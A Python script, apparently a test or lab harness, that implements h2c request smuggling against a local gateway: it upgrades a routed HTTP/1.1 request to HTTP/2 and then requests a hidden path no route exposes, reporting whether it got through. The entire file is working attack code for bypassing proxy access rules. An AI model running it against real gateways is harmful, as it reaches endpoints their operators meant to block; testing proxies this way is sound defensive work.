"""The h2c smuggling client (Bishop Fox, 2020), built on Debian's python3-h2: asks the gateway for a
path a route exposes with "Upgrade: h2c"; if it gets 101, it speaks HTTP/2 on the tunnel and asks
for a path no route exposes. Prints one line: "ordinary STATUS BODY" when the gateway answered
the request as HTTP/1.1, "smuggled STATUS BODY" when the second path was reached over HTTP/2, or
"closed" when the connection ended first.

usage: h2c_smuggle.py PORT ROUTED_PATH HIDDEN_PATH CONNECTION_VALUE"""

import socket
import sys

import h2.config
import h2.connection
import h2.events


def main():
    port, routed, hidden, connection = int(sys.argv[1]), sys.argv[2], sys.argv[3], sys.argv[4]
    client = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    settings = client.initiate_upgrade_connection().decode()  # base64url, as HTTP2-Settings carries it
    sock = socket.create_connection(("127.0.0.1", port), timeout=5)
    sock.sendall(("GET %s HTTP/1.1\r\nHost: x\r\nConnection: %s\r\nUpgrade: h2c\r\nHTTP2-Settings: %s\r\n\r\n"
                  % (routed, connection, settings)).encode())
    data = b""
    while b"\r\n\r\n" not in data:
        chunk = sock.recv(65536)
        if not chunk:
            print("closed")
            return
        data += chunk
    head, _, rest = data.partition(b"\r\n\r\n")
    status = int(head.split(b" ")[1])
    if status != 101:
        length = 0
        for line in head.split(b"\r\n")[1:]:
            name, _, value = line.partition(b":")
            if name.strip().lower() == b"content-length":
                length = int(value)
        while len(rest) < length:
            chunk = sock.recv(65536)
            if not chunk:
                break
            rest += chunk
        print("ordinary %d %s" % (status, rest[:length].decode().strip()))
        return
    stream = client.get_next_available_stream_id()
    client.send_headers(stream, [(":method", "GET"), (":path", hidden), (":scheme", "http"),
                                 (":authority", "x")], end_stream=True)
    sock.sendall(client.data_to_send())
    got_status, body = None, b""
    events = client.receive_data(rest) if rest else []
    while True:
        for event in events:
            if isinstance(event, h2.events.ResponseReceived) and event.stream_id == stream:
                got_status = int(dict(event.headers)[b":status"])
            elif isinstance(event, h2.events.DataReceived) and event.stream_id == stream:
                body += event.data
            elif isinstance(event, h2.events.StreamEnded) and event.stream_id == stream:
                print("smuggled %s %s" % (got_status, body.decode().strip()))
                return
        sock.sendall(client.data_to_send())
        chunk = sock.recv(65536)
        if not chunk:
            print("closed")
            return
        events = client.receive_data(chunk)


if __name__ == "__main__":
    main()
